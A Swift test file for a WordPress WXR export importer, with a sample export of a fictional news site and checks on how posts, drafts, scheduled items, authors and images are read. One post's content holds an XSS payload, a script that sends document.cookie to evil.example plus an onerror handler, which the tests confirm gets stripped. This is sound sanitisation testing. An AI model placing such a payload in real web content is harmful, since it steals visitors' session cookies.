import Foundation
import Testing
import BylineCore
@testable import BylineImport

/// A WordPress export written for these tests, shaped like WordPress 6's WXR 1.2 output.
private let wxrExport = """
<?xml version="1.0" encoding="UTF-8" ?>
<rss version="2.0"
  xmlns:excerpt="http://wordpress.org/export/1.2/excerpt/"
  xmlns:content="http://purl.org/rss/1.0/modules/content/"
  xmlns:wfw="http://wellformedweb.org/CommentAPI/"
  xmlns:dc="http://purl.org/dc/elements/1.1/"
  xmlns:wp="http://wordpress.org/export/1.2/">
<channel>
  <title>Valley Voice</title>
  <link>https://valley.example</link>
  <description>News from the valley</description>
  <language>en-GB</language>
  <wp:wxr_version>1.2</wp:wxr_version>
  <wp:base_site_url>https://valley.example</wp:base_site_url>
  <wp:base_blog_url>https://valley.example</wp:base_blog_url>
  <wp:author><wp:author_id>1</wp:author_id><wp:author_login><![CDATA[ada]]></wp:author_login><wp:author_email><![CDATA[ada@valley.example]]></wp:author_email><wp:author_display_name><![CDATA[Ada Okafor]]></wp:author_display_name></wp:author>
  <wp:author><wp:author_id>2</wp:author_id><wp:author_login><![CDATA[ben]]></wp:author_login><wp:author_display_name><![CDATA[Ben Hale]]></wp:author_display_name></wp:author>
  <wp:category><wp:term_id>3</wp:term_id><wp:category_nicename><![CDATA[local-politics]]></wp:category_nicename><wp:category_parent><![CDATA[]]></wp:category_parent><wp:cat_name><![CDATA[Local Politics]]></wp:cat_name></wp:category>
  <item>
    <title><![CDATA[Bridge vote passes]]></title>
    <link>https://valley.example/2026/11/bridge-vote-passes/</link>
    <pubDate>Fri, 27 Nov 2026 18:00:00 +0000</pubDate>
    <dc:creator><![CDATA[ada]]></dc:creator>
    <guid isPermaLink="false">https://valley.example/?p=101</guid>
    <description></description>
    <content:encoded><![CDATA[<p>The council voted 7&ndash;2 for the <a href="/tag/bridge/">new bridge</a>.</p>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p><img src="/wp-content/uploads/2026/11/plan.png" alt="Plan" onerror="alert(1)" /></p>

Second paragraph without tags, as WordPress stores it.]]></content:encoded>
    <excerpt:encoded><![CDATA[Councillors back the <b>bridge</b>.]]></excerpt:encoded>
    <wp:post_id>101</wp:post_id>
    <wp:post_date><![CDATA[2026-11-27 18:00:00]]></wp:post_date>
    <wp:post_date_gmt><![CDATA[2026-11-27 18:00:00]]></wp:post_date_gmt>
    <wp:post_name><![CDATA[bridge-vote-passes]]></wp:post_name>
    <wp:status><![CDATA[publish]]></wp:status>
    <wp:post_type><![CDATA[post]]></wp:post_type>
    <category domain="category" nicename="local-politics"><![CDATA[Local Politics]]></category>
    <category domain="category" nicename="transport"><![CDATA[Transport]]></category>
    <category domain="post_tag" nicename="bridge"><![CDATA[Bridge]]></category>
    <category domain="post_tag" nicename="council"><![CDATA[Council]]></category>
    <wp:postmeta><wp:meta_key><![CDATA[_thumbnail_id]]></wp:meta_key><wp:meta_value><![CDATA[200]]></wp:meta_value></wp:postmeta>
  </item>
  <item>
    <title><![CDATA[Draft: market report]]></title>
    <link>https://valley.example/?p=102</link>
    <pubDate>Mon, 30 Nov -0001 00:00:00 +0000</pubDate>
    <dc:creator><![CDATA[ben]]></dc:creator>
    <guid isPermaLink="false">https://valley.example/?p=102</guid>
    <content:encoded><![CDATA[Prices &amp; stalls.]]></content:encoded>
    <wp:post_id>102</wp:post_id>
    <wp:post_date><![CDATA[2026-11-26 10:00:00]]></wp:post_date>
    <wp:post_date_gmt><![CDATA[0000-00-00 00:00:00]]></wp:post_date_gmt>
    <wp:post_name><![CDATA[]]></wp:post_name>
    <wp:status><![CDATA[draft]]></wp:status>
    <wp:post_type><![CDATA[post]]></wp:post_type>
  </item>
  <item>
    <title><![CDATA[Festival next week]]></title>
    <dc:creator><![CDATA[ada]]></dc:creator>
    <guid isPermaLink="false">https://valley.example/?p=103</guid>
    <content:encoded><![CDATA[<p>Music on the green.</p>]]></content:encoded>
    <wp:post_id>103</wp:post_id>
    <wp:post_date_gmt><![CDATA[2026-12-05 09:00:00]]></wp:post_date_gmt>
    <wp:post_name><![CDATA[festival-%c3%a9t%c3%a9]]></wp:post_name>
    <wp:status><![CDATA[future]]></wp:status>
    <wp:post_type><![CDATA[post]]></wp:post_type>
    <category domain="category" nicename="whats-on"><![CDATA[What&#8217;s On]]></category>
  </item>
  <item>
    <title><![CDATA[About us]]></title>
    <wp:post_id>104</wp:post_id>
    <wp:status><![CDATA[publish]]></wp:status>
    <wp:post_type><![CDATA[page]]></wp:post_type>
  </item>
  <item>
    <title><![CDATA[Deleted]]></title>
    <wp:post_id>105</wp:post_id>
    <wp:status><![CDATA[trash]]></wp:status>
    <wp:post_type><![CDATA[post]]></wp:post_type>
  </item>
  <item>
    <title><![CDATA[plan-of-bridge]]></title>
    <guid isPermaLink="false">https://valley.example/wp-content/uploads/2026/11/bridge.jpg</guid>
    <excerpt:encoded><![CDATA[The planned bridge, seen from the east bank]]></excerpt:encoded>
    <wp:post_id>200</wp:post_id>
    <wp:status><![CDATA[inherit]]></wp:status>
    <wp:post_type><![CDATA[attachment]]></wp:post_type>
    <wp:attachment_url><![CDATA[https://valley.example/wp-content/uploads/2026/11/bridge.jpg]]></wp:attachment_url>
    <wp:postmeta><wp:meta_key><![CDATA[_wp_attachment_image_alt]]></wp:meta_key><wp:meta_value><![CDATA[An artist's drawing of the bridge]]></wp:meta_value></wp:postmeta>
  </item>
  <item>
    <title><![CDATA[Menu item]]></title>
    <wp:post_id>300</wp:post_id>
    <wp:post_type><![CDATA[nav_menu_item]]></wp:post_type>
  </item>
</channel>
</rss>
"""

@Suite struct WXRReaderTests {
    func date(_ iso: String) -> Date? { try? Date.ISO8601FormatStyle().parse(iso) }

    @Test func readsPostsOnly() throws {
        let results = try WXRReader(fileName: "valley.xml").read(Data(wxrExport.utf8))
        #expect(results.count == 3, "pages, attachments, menu items and trash are not articles")
        let items = results.compactMap { try? $0.get() }
        #expect(items.count == 3)

        let bridge = items[0]
        #expect(bridge.draft.headline == "Bridge vote passes")
        #expect(bridge.draft.status == .published)
        #expect(bridge.draft.publishedAt == date("2026-11-27T18:00:00Z"))
        #expect(bridge.draft.slug?.rawValue == "bridge-vote-passes")
        #expect(bridge.draft.section.rawValue == "local-politics")
        #expect(bridge.sectionName == "Local Politics")
        #expect(bridge.draft.tags == ["Bridge", "Council"])
        #expect(bridge.draft.contributors.map(\.name) == ["Ada Okafor"], "logins map to display names")
        #expect(bridge.draft.externalID == "https://valley.example/?p=101")
        #expect(bridge.draft.dek == "Councillors back the bridge.")
        #expect(bridge.draft.leadImage == LeadImage(url: "https://valley.example/wp-content/uploads/2026/11/bridge.jpg",
                                                    alt: "An artist's drawing of the bridge",
                                                    caption: "The planned bridge, seen from the east bank"))
        let body = bridge.draft.bodyMarkdown
        #expect(body.contains("voted 7–2"))
        #expect(body.contains(#"<a href="https://valley.example/tag/bridge/">new bridge</a>"#))
        #expect(body.contains(#"<img src="https://valley.example/wp-content/uploads/2026/11/plan.png" alt="Plan"/>"#))
        #expect(body.contains("\n\nSecond paragraph without tags"), "blank lines survive, so Markdown makes paragraphs")
        #expect(!body.contains("script") && !body.contains("cookie") && !body.contains("onerror"))

        let draft = items[1]
        #expect(draft.draft.status == .draft)
        #expect(draft.draft.publishedAt == nil, "a draft's zero date is no date")
        #expect(draft.draft.slug == nil)
        #expect(draft.sectionName == "news", "no category falls back to news")
        #expect(draft.draft.contributors.map(\.name) == ["Ben Hale"])
        #expect(draft.draft.bodyMarkdown == "Prices &amp; stalls.")

        let future = items[2]
        #expect(future.draft.status == .scheduled)
        #expect(future.draft.publishedAt == date("2026-12-05T09:00:00Z"))
        #expect(future.sectionName == "What’s On")
        #expect(future.draft.section.rawValue == "whats-on")
        #expect(future.draft.slug?.rawValue != nil)
    }

    @Test func malformedExportReportsLineAndColumn() {
        var lines = wxrExport.components(separatedBy: "\n")
        lines[30] += "<unclosed"
        let broken = lines.joined(separator: "\n")
        do {
            let results = try WXRReader(fileName: "broken.xml").read(Data(broken.utf8))
            Issue.record("expected an error, got \(results.count) results")
        } catch {
            #expect(error.location.line >= 31)
            #expect(error.location.column != nil)
            #expect(error.description.hasPrefix("broken.xml:"))
        }
    }

    @Test func rejectsANonWXRDocument() {
        #expect(throws: ImportSourceError.self) { try WXRReader(fileName: "feed.atom").read(Data("<feed xmlns=\"http://www.w3.org/2005/Atom\"/>".utf8)) }
    }
}
